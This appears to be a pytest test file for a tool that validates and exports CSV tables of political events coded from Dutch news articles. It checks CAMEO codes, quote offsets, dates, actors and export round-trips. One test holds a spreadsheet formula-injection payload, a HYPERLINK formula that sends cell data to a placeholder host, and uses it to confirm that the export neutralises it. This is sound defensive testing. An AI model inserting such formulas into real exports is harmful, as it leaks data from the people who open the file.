"""Tests of data/events.csv and helpers.events: provenance, codes, validation, export."""

from __future__ import annotations

import csv
import json
import random
from pathlib import Path

import pandas as pd
import pytest

from conftest import CORPUS
from csv_rows import read_rows, write_rows
from helpers.corpus import load_corpus_articles
from helpers.events import (
    COLUMNS,
    EVENTS,
    GOLDSTEIN,
    MODALITIES,
    OFFSETS_NOT_CHECKED,
    PLOVER_TYPES,
    REFERENCE_EVENTS,
    _cells,
    _check_table,
    _Checks,
    _columns,
    _first_failure,
    _reference_intervals,
    _rules,
    _source_of,
    check_event_rows,
    event_records,
    export_events,
    known_actor_ids,
    load_events,
    offsets_not_checked,
    plover_type_of,
    quad_class_of,
)
from helpers.tables import DataError, read_table


def rows() -> list[dict[str, str]]:
    return read_rows(EVENTS)[1]


def write(path: Path, records: list[dict[str, str]]) -> Path:
    return write_rows(path, COLUMNS, records)


# --- the coded data -----------------------------------------------------------------------------


def test_table_shape(events):
    assert 25 <= len(events) <= 40
    assert list(events.columns) == list(COLUMNS)
    assert list(events["event_id"]) == [f"E{i:02d}" for i in range(1, len(events) + 1)]
    assert events["date_start"].dtype.kind == "M" and events["date_end"].dtype.kind == "M"
    assert events["quote_start"].dtype == "int64" and events["goldstein"].dtype == "float64"
    assert all(isinstance(code, str) for code in events["cameo_code"])


def test_every_quote_sits_at_its_offsets(article, events):
    for event in events.itertuples():
        assert article.raw[event.quote_start : event.quote_end] == event.quote_nl, event.event_id


def test_every_time_phrase_sits_at_its_offsets(article, events):
    with_phrase = events[events["time_phrase_nl"] != ""]
    assert len(with_phrase) > 20
    for event in with_phrase.itertuples():
        assert article.raw[event.time_start : event.time_end] == event.time_phrase_nl
    without = events[events["time_phrase_nl"] == ""]
    assert without["time_start"].isna().all() and (without["timex_value"] == "").all()


def test_every_actor_is_in_the_gazetteer(events):
    known = known_actor_ids()
    for column in ("actor_ids", "recipient_ids"):
        for value in events[column]:
            for actor in filter(None, value.split(";")):
                assert actor in known, actor


def test_codes_are_consistent(events):
    for event in events.itertuples():
        assert GOLDSTEIN[event.cameo_code] == event.goldstein
        assert plover_type_of(event.cameo_code) == event.plover_event_type
        assert quad_class_of(event.cameo_code) == event.quad_class
        assert event.sign == (1 if event.quad_class.endswith("cooperation") else -1)
    assert set(events["plover_event_type"]) <= set(PLOVER_TYPES)
    assert set(events["modality"]) <= set(MODALITIES)


def test_dates_stay_within_the_article(article, events):
    assert (events["date_end"] <= article.date_end).all()
    assert (events["date_start"] >= pd.Timestamp("1900-01-01")).all()
    assert (events["date_start"] <= events["date_end"]).all()


def test_article_reading_is_kept_apart_from_the_reference(events):
    """'In juni' stays June 2022 even though F12 knows the day; only basis 'reference' rows
    take the reference's dates, and they say so."""
    june = events[events["time_phrase_nl"] == "In juni"]
    assert len(june) >= 3
    assert (june["date_start"] == pd.Timestamp("2022-06-01")).all()
    assert (june["date_end"] == pd.Timestamp("2022-06-30")).all()
    assert (june["date_basis"] != "reference").all()
    summit = events[events["reference_fact_id"] == "F01"].iloc[0]
    assert summit["date_start"] == pd.Timestamp("2022-11-01")  # not F01's 23 Nov
    by_reference = events[events["date_basis"] == "reference"]
    assert (by_reference["reference_fact_id"] != "").all()


def test_the_non_events_are_coded(events):
    negated = events[events["modality"] == "negated"]
    assert {"CSTO"} <= set(";".join(negated["actor_ids"]).split(";"))
    assert any("niet ingegrepen" in q for q in negated["quote_nl"])
    assert any("niet doorgaan" in q for q in negated["quote_nl"])
    assert any("erkennen we niet" in q for q in negated["quote_nl"])


# --- validation ---------------------------------------------------------------------------------


def mutate(tmp_path: Path, index: int = 0, **changes: str) -> Path:
    records = rows()
    records[index].update(changes)
    return write(tmp_path / "events.csv", records)


# One bad change of a row each, and the column its error names (None: either date).
BAD_CHANGES = [
    ({"actor_ids": "PUTIN;NOBODY"}, "actor_ids"),
    ({"recipient_ids": "ATLANTIS"}, "recipient_ids"),
    ({"actor_ids": ""}, "actor_ids"),
    ({"quote_start": "0"}, "quote_nl"),
    ({"quote_nl": "iets anders"}, "quote_nl"),
    ({"quote_start": "900", "quote_end": "800"}, "quote_end"),
    ({"time_start": "3"}, "time_phrase_nl"),
    ({"time_end": ""}, "time_phrase_nl"),
    ({"date_start": "2022-11-30", "date_end": "2022-11-01"}, "date_end"),
    ({"date_end": "2022-12-05"}, "date_end"),
    ({"date_start": "1850-01-01", "date_end": "1850-12-31", "date_precision": "year"}, None),
    ({"date_precision": "day"}, "date_precision"),
    ({"date_precision": "fortnight"}, "date_precision"),
    ({"date_start": "2022-11-31"}, "date_start"),
    ({"cameo_code": "190"}, "plover_event_type"),
    ({"cameo_code": "999"}, "cameo_code"),
    ({"goldstein": "-5.0"}, "goldstein"),
    ({"quad_class": "verbal_cooperation"}, "quad_class"),
    ({"quad_class": "friendly"}, "quad_class"),
    ({"sign": "1"}, "sign"),
    ({"plover_mode": "firearms"}, "plover_mode"),
    ({"plover_event_type": "HUG"}, "plover_event_type"),
    ({"modality": "rumoured"}, "modality"),
    ({"date_basis": "guess"}, "date_basis"),
    ({"date_basis": "reference", "reference_fact_id": ""}, "reference_fact_id"),
    ({"date_basis": "reference", "reference_fact_id": "F01"}, "date_start"),
    ({"reference_fact_id": "F99"}, "reference_fact_id"),
    ({"reference_fact_id": "fact 1"}, "reference_fact_id"),
    ({"article_id": "000000000000"}, "article_id"),
    ({"event_id": "event-1"}, "event_id"),
]


@pytest.mark.parametrize(("changes", "column"), BAD_CHANGES)
def test_bad_rows_raise_data_error(tmp_path, article, changes, column):
    path = mutate(tmp_path, **changes)
    with pytest.raises(DataError) as caught:
        load_events(path, article=article)
    error = caught.value
    assert error.path == str(path)
    assert error.row == 2  # the first record is on line 2
    if column is not None:
        assert error.column == column, str(error)
    else:
        assert error.column in ("date_start", "date_end"), str(error)


def _checks_of(article) -> _Checks:
    """The checks of rows of ``article`` against the project's actors and reference events."""
    return _Checks(
        EVENTS,
        known_actor_ids(),
        _reference_intervals(REFERENCE_EVENTS),
        {article.id: _source_of(article)},
        "the articles given",
    )


@pytest.mark.parametrize("dtype", ["str", "object"])
def test_each_rule_fails_first_where_a_row_by_row_reading_does(article, dtype):
    """A rule is called once per distinct combination of what it reads: its first failure is
    the one a plain reading row by row finds, on tables with many bad rows (the changes above,
    at random rows), cells as Arrow text or as Python objects."""
    rng = random.Random(14)
    checks = _checks_of(article)
    tried = 0
    for _ in range(60):
        records = rows()
        for _ in range(rng.randint(1, 6)):
            records[rng.randrange(len(records))].update(rng.choice(BAD_CHANGES)[0])
        table = pd.DataFrame(records, columns=list(COLUMNS), dtype=dtype)
        table = table.assign(_row=range(len(records)))
        cells = _cells(table)
        try:
            _check_table(table, EVENTS, cells)
        except DataError:
            continue
        columns = _columns(cells, checks)
        for rule in _rules(checks):
            each = [[c.values[code] for code in c.codes] for c in map(columns.get, rule.reads)]
            rows_read = enumerate(zip(*each, strict=True))
            plain = ((at, rule.problem(*values)) for at, values in rows_read)
            assert _first_failure(rule, columns) == next((f for f in plain if f[1]), None)
        tried += 1
    assert tried > 20


def test_the_checks_of_a_table_raise_as_a_row_by_row_reading_does(tmp_path, article):
    """The whole check of many tables with bad rows (:func:`_check_table`, then the rules):
    the error named is the first one a reading row by row, rule by rule, meets, and the typed
    rows of a good table are those of the cells read one by one."""
    rng = random.Random(21)
    tried = raised = 0
    checks = _checks_of(article)
    for _ in range(40):
        records = [dict(record) for record in rows() * 3]
        for _ in range(rng.randint(0, 4)):
            records[rng.randrange(len(records))].update(rng.choice(BAD_CHANGES)[0])
        for at, record in enumerate(records):
            record["event_id"] = f"E{at + 1:03d}"
        path = write(tmp_path / "events.csv", records)
        table = read_table(path, COLUMNS)
        cells = _cells(table)
        try:
            _check_table(table, path, cells)
        except DataError:
            continue
        columns = _columns(cells, checks)
        plain = None
        for at in range(len(records)):
            for rule in _rules(checks):
                values = [columns[c].values[columns[c].codes[at]] for c in rule.reads]
                problem = rule.problem(*values)
                if problem is not None:
                    plain = (int(table["_row"].iloc[at]), rule.column, problem)
                    break
            if plain is not None:
                break
        try:
            frame = check_event_rows(table, path, [article])
        except DataError as error:
            assert (error.path, error.row, error.column, error.problem) == (str(path), *plain)
            raised += 1
            continue
        assert plain is None
        each = {c: table[c].tolist() for c in COLUMNS}
        assert frame["goldstein"].tolist() == [float(g) for g in each["goldstein"]]
        assert frame["sign"].tolist() == [int(s) for s in each["sign"]]
        for column in ("quote_start", "quote_end", "time_start", "time_end"):
            assert frame[column].tolist() == [int(o) if o else pd.NA for o in each[column]]
        for column in ("date_start", "date_end"):
            assert frame[column].tolist() == list(pd.to_datetime(each[column]))
        assert frame["cameo_code"].tolist() == each["cameo_code"]
        tried += 1
    assert tried > 5 and raised > 5


def test_the_first_bad_row_is_named_whatever_its_check(tmp_path, article):
    """Rows are checked at once, column by column, yet the error is the one a reading row by
    row meets first: row 3's late check (precision) before row 4's first one (event id)."""
    records = rows()
    records[1]["date_precision"] = "day"
    records[2]["event_id"] = "event-3"
    path = write(tmp_path / "events.csv", records)
    with pytest.raises(DataError) as caught:
        load_events(path, article=article)
    assert (caught.value.row, caught.value.column) == (3, "date_precision")


def test_in_one_row_the_first_check_in_order_is_named(tmp_path, article):
    """A row with several problems: the one checked first (the CAMEO code before the dates,
    an offset that is not a number before the quote it would cut)."""
    path = mutate(tmp_path, cameo_code="999", date_precision="day")
    with pytest.raises(DataError, match="'999' is not a CAMEO event code") as caught:
        load_events(path, article=article)
    assert (caught.value.row, caught.value.column) == (2, "cameo_code")
    path = mutate(tmp_path, quote_start="twelve", date_end="2022-13-01")
    with pytest.raises(DataError, match="'twelve' is not a non-negative integer offset"):
        load_events(path, article=article)


def test_a_repeated_bad_value_is_named_at_its_first_row(tmp_path, article):
    records = rows()
    for record in records[4:]:
        record["goldstein"] = "many"
    path = write(tmp_path / "events.csv", records)
    with pytest.raises(DataError, match="'many' is not a number") as caught:
        load_events(path, article=article)
    assert (caught.value.row, caught.value.column) == (6, "goldstein")


def test_early_dates_are_refused(tmp_path, article):
    path = mutate(tmp_path, date_start="1850-01-01", date_end="1850-12-31", date_precision="year")
    with pytest.raises(DataError, match="before 1900"):
        load_events(path, article=article)


def test_duplicate_ids_are_refused(tmp_path, article):
    records = rows()
    records[1]["event_id"] = records[0]["event_id"]
    path = write(tmp_path / "events.csv", records)
    with pytest.raises(DataError) as caught:
        load_events(path, article=article)
    assert (caught.value.row, caught.value.column) == (3, "event_id")


def test_publication_dates_must_match_their_phrase(tmp_path, article):
    records = rows()
    index = next(i for i, r in enumerate(records) if r["time_phrase_nl"] == "in oktober")
    records[index].update(date_start="2022-09-01", date_end="2022-09-30")
    path = write(tmp_path / "events.csv", records)
    with pytest.raises(DataError, match="outside what 'in oktober' means"):
        load_events(path, article=article)


def test_missing_column_is_refused(tmp_path, article):
    records = rows()
    fields = [c for c in COLUMNS if c != "modality"]
    path = write_rows(tmp_path / "events.csv", fields, records, extrasaction="ignore")
    with pytest.raises(DataError, match="missing"):
        load_events(path, article=article)


def test_actor_list_can_be_given(tmp_path, article):
    path = mutate(tmp_path)
    with pytest.raises(DataError, match="unknown actor id"):
        load_events(path, article=article, actors=["CSTO"])


# --- export -------------------------------------------------------------------------------------


def test_export_is_deterministic(tmp_path, events):
    first = export_events(events, tmp_path / "a")
    second = export_events(events, tmp_path / "b")
    assert [p.name for p in first] == ["events.csv", "events.jsonl"]
    for one, two in zip(first, second, strict=True):
        assert one.read_bytes() == two.read_bytes()
    again = export_events(events.sample(frac=1, random_state=1), tmp_path / "a")
    for one, two in zip(first, again, strict=True):
        assert one.read_bytes() == two.read_bytes()
    assert not list((tmp_path / "a").glob("*.tmp"))


def test_exported_csv_loads_back(tmp_path, article, events):
    csv_path, _ = export_events(events, tmp_path)
    again = load_events(csv_path, article=article)
    pd.testing.assert_frame_equal(again, events, check_exact=True)


def test_jsonl_round_trips(tmp_path, article, events):
    _, jsonl = export_events(events, tmp_path)
    text = jsonl.read_text(encoding="utf-8")
    assert "ë" in text  # ensure_ascii=False
    lines = text.splitlines()
    assert len(lines) == len(events)
    records = [json.loads(line) for line in lines]
    assert records == event_records(events)
    for record, event in zip(records, events.itertuples(), strict=True):
        assert list(record) == sorted(record)
        assert record["event_id"] == event.event_id
        assert record["event"] == [event.plover_event_type]
        assert record["date"] == event.date_start.strftime("%Y-%m-%d")
        assert record["enddate"] == event.date_end.strftime("%Y-%m-%d")
        assert ";".join(a["code"] for a in record["source"]) == event.actor_ids
        assert ";".join(a["code"] for a in record["recipient"]) == event.recipient_ids
        start, end = record["text_info"]["start"], record["text_info"]["end"]
        assert [article.raw[start:end]] == record["event_text"] == [event.quote_nl]
        assert record["event_scale"] == event.goldstein
        assert ("negation" in record["context"]) == (event.modality == "negated")


def test_row10_exported_csv_neutralises_formulas_but_not_numbers(tmp_path, article):
    """Issue 10 row 10: '=HYPERLINK(...)' in gloss_en went unchanged into events.csv."""
    records = rows()
    formula = '=HYPERLINK("https://example.invalid/?leak="&A1,"more")'
    index = next(i for i, r in enumerate(records) if r["goldstein"] == "-5.0")
    records[index].update(gloss_en=formula, coder_note="@SUM(1+1)")
    events = load_events(write(tmp_path / "events.csv", records), article=article)
    csv_path, jsonl_path = export_events(events, tmp_path / "out")
    with open(csv_path, encoding="utf-8", newline="") as handle:
        exported = list(csv.DictReader(handle))
    row = exported[index]
    assert row["gloss_en"] == "'" + formula and row["coder_note"] == "'@SUM(1+1)"
    assert row["goldstein"] == "-5.0" and row["sign"] == "-1"  # numbers stay numbers
    assert row["date_start"] == records[index]["date_start"]
    untouched = [r for i, r in enumerate(exported) if i != index]
    assert untouched == [r for i, r in enumerate(rows()) if i != index]
    record = json.loads(jsonl_path.read_text(encoding="utf-8").splitlines()[index])
    assert record["gloss_en"] == formula and record["comment"] == "@SUM(1+1)"  # JSONL: as coded


def test_a_cameo_code_that_lost_its_leading_zero_says_so(tmp_path, article):
    """Excel reads 074 as the number 74: the error names the likely cause."""
    records = rows()
    index = next(i for i, r in enumerate(records) if r["cameo_code"] == "074")
    records[index]["cameo_code"] = "74"
    with pytest.raises(DataError, match=r"'74' is not a CAMEO.*leading zero of '074'"):
        load_events(write(tmp_path / "events.csv", records), article=article)


# --- events of many articles (issue 11) ---------------------------------------------------------

INVENTED_EVENTS = Path(__file__).resolve().parent / "invented_corpus" / "events.csv"


def corpus_rows() -> list[dict[str, str]]:
    with open(INVENTED_EVENTS, encoding="utf-8", newline="") as handle:
        return list(csv.DictReader(handle))


def test_invented_events_load_against_their_own_articles(corpus_registry):
    events = load_events(INVENTED_EVENTS, registry=corpus_registry, corpus_dirs=[CORPUS])
    assert len(events) == 11 and events.attrs["offsets_not_checked"] == {}
    assert offsets_not_checked(events).empty
    assert events.groupby("article_id").size().to_dict() == {
        "0a8b9d13d23b": 1, "235381425089": 2, "41a399636cb8": 2, "6ff9efe2b303": 4,
        "f342c5f54d45": 2,
    }  # fmt: skip


def test_seed_and_invented_rows_in_one_table(tmp_path, corpus_registry):
    """Keyed by (article_id, event_id): E01 of the seed and E01 of an invented article are two
    rows; each is checked against its own text and publication date."""
    path = write(tmp_path / "events.csv", rows() + corpus_rows())
    events = load_events(path, registry=corpus_registry, corpus_dirs=[CORPUS])
    assert len(events) == len(rows()) + 11
    assert (events["event_id"] == "E01").sum() == 6
    assert events.attrs["offsets_not_checked"] == {}


def test_the_same_pair_twice_is_refused(tmp_path, corpus_registry):
    records = rows() + corpus_rows()
    records.append(dict(records[-1]))
    path = write(tmp_path / "events.csv", records)
    with pytest.raises(DataError, match=r"duplicate \(article_id, event_id\)") as caught:
        load_events(path, registry=corpus_registry)
    assert (caught.value.row, caught.value.column) == (len(records) + 1, "event_id")


def test_a_row_is_checked_against_its_own_article(tmp_path, corpus_registry):
    """An offset that is right for the seed but wrong for the invented article fails there."""
    records = corpus_rows()
    records[0]["quote_start"] = str(int(records[0]["quote_start"]) + 1)
    path = write(tmp_path / "events.csv", rows() + records)
    with pytest.raises(DataError, match="not the quote_nl cell") as caught:
        load_events(path, registry=corpus_registry, corpus_dirs=[CORPUS])
    assert (caught.value.row, caught.value.column) == (len(rows()) + 2, "quote_nl")


def test_dates_are_checked_against_each_articles_publication_date(tmp_path, corpus_registry):
    """An invented article of 8 January 2022 cannot report a day after it, even though the
    seed's November 2022 would allow it; checked from the registry when the text is absent."""
    records = corpus_rows()
    index = next(i for i, r in enumerate(records) if r["date_start"] == "2022-01-06")
    records[index].update(date_start="2022-01-09", date_end="2022-01-09", date_basis="context")
    path = write(tmp_path / "events.csv", records)
    with pytest.raises(DataError, match=r"after the end of the publication period \(2022-01-08\)"):
        load_events(path, registry=corpus_registry)


def test_rows_whose_text_is_absent_are_kept_and_counted(corpus_registry):
    """Issue 11: rows of a registered article whose text is not available here are kept (every
    other check made) and counted, never dropped."""
    everything = load_events(INVENTED_EVENTS, registry=corpus_registry, corpus_dirs=[CORPUS])
    here = [a for a in load_corpus_articles([CORPUS], registry=corpus_registry).articles
            if a.id != "6ff9efe2b303"]  # fmt: skip
    events = load_events(INVENTED_EVENTS, articles=here, registry=corpus_registry)
    pd.testing.assert_frame_equal(events, everything)
    assert events.attrs["offsets_not_checked"] == {"6ff9efe2b303": 4}
    table = offsets_not_checked(events)
    assert table.to_dict("index") == {"6ff9efe2b303": {"rows": 4, "note": OFFSETS_NOT_CHECKED}}
    assert OFFSETS_NOT_CHECKED == "offsets not checked: text not available"


def test_a_row_of_an_unregistered_article_is_refused(tmp_path):
    records = corpus_rows()[:1]
    path = write(tmp_path / "events.csv", rows() + records)
    with pytest.raises(DataError, match="'235381425089' is not a registered article") as caught:
        load_events(path)
    assert (caught.value.row, caught.value.column) == (len(rows()) + 2, "article_id")


def test_the_old_single_article_call_still_works(article, corpus_registry):
    """load_events(article=...) as notebook 03 calls it: the seed rows checked with its text;
    rows of other registered articles would be counted, not refused."""
    events = load_events(INVENTED_EVENTS, article=article, registry=corpus_registry)
    assert len(events) == 11 and sum(events.attrs["offsets_not_checked"].values()) == 11
    assert load_events(article=article).attrs["offsets_not_checked"] == {}


def test_stop18_reference_facts_read_once_while_the_file_is_unchanged(tmp_path):
    """The reference intervals are read once per file state: again after an edit, and a
    missing file is the reader's error each time (nothing cached)."""
    from helpers.events import REFERENCE_EVENTS, _reference_intervals

    path = tmp_path / "ref.csv"
    with pytest.raises(DataError):
        _reference_intervals(path)
    path.write_bytes(REFERENCE_EVENTS.read_bytes())
    first = _reference_intervals(path)
    assert _reference_intervals(path) is first and "F01" in first
    rows = path.read_text(encoding="utf-8").splitlines(keepends=True)
    path.write_text("".join(row for row in rows if not row.startswith("F01,")), encoding="utf-8")
    assert "F01" not in _reference_intervals(path) and "F01" in first
